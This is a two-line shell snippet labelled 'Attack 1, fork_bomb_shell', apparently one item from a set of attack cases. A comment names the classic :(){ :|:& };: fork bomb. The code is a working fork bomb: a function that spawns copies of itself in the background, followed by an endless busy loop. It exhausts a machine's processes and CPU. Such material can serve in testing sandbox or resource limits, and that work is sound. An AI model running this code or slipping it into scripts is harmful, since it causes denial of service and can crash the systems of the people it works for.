# Attack 1, fork_bomb_shell: the shell :(){ :|:& };: bomb; the top shell spins instead of returning.
bomb() { bomb | bomb & }; bomb; while :; do :; done
